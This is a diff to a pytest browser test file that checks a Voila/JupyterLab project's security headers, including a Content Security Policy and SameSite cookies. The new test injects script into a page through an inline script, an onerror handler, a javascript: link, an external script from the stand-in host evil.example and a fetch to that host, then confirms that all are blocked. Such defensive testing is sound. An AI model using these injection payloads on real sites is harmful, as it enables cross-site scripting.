@@ -13,7 +13,9 @@ from urllib.request import Request, urlopen
 import pytest
 
 from tests.browser.conftest import Watched
+from tests.waiting import until
 from village_widgets.host.files import shared
+from village_widgets.host.headers import policy
 
 READY = ".vc-settings"
 ASK = """async ([kernel, asked]) => {
@@ -173,12 +175,45 @@ def test_what_is_no_page_is_answered_with_ours(voila: str, path: str) -> None:
 
 @pytest.mark.parametrize("server", ["voila", "lab"])
 def test_every_answer_says_that_it_is_what_it_says(server: str, request: pytest.FixtureRequest) -> None:
-    """Pages, files of ours and of others, and errors: no browser guesses what they are, and no other site is told an address."""
+    """Pages, files of ours and of others, and errors: no browser guesses what they are, no other site is told an address, and
+    what a page may load and run is said by each. A cookie is sent by our own pages alone.
+    """
     address = str(request.getfixturevalue(server))
     look, script = "voila/templates/village/static/page.css", shared("page.js")
-    for path in ("voila/tree", "voila/render/00_welcome.ipynb", look, script, "none"):
+    for path in ("voila/tree", "voila/render/00_welcome.ipynb", look, script, "voila/none", "lab" if server == "lab" else "none"):
         try:
             headers = urlopen(f"{address}/{path}", timeout=60).headers
         except HTTPError as error:
             headers = error.headers
         assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "same-origin", path
+        assert headers["Content-Security-Policy"].startswith(policy()) is (path != "lab"), "JupyterLab has a policy of its own"
+        assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]
+        assert all("samesite=lax" in cookie.lower() for cookie in headers.get_all("Set-Cookie", []))
+
+
+INJECT = """() => {
+    const script = document.createElement("script");
+    script.textContent = "window.foreign = 'script'";
+    document.body.append(script);
+    document.body.insertAdjacentHTML("beforeend", `<img src="none:" onerror="window.foreign = 'handler'">
+        <a class="led" href="javascript:window.foreign = 'address'">x</a>`);
+    document.querySelector(".led").click();
+    const outside = document.createElement("script");
+    outside.src = "https://evil.example/script.js";
+    document.body.append(outside);
+    return fetch("https://evil.example/").then(() => "reached", () => "unreached");
+}"""
+
+
+def test_a_script_that_got_into_a_page_does_not_run(opened: Watched) -> None:
+    """Neither as a script, a handler nor an address, nor from elsewhere; and nothing reaches another host."""
+    assert opened.page.evaluate(INJECT) == "unreached"
+
+
+    def refused() -> int:
+        assert opened.page.evaluate("() => window.foreign === undefined")
+        return len([error for error in opened.errors if "Content Security Policy" in error])
+
+    until(lambda: refused() >= 5, "that all five are refused")
+    opened.errors.clear()
+    opened.outside.clear()  # what was asked for and refused
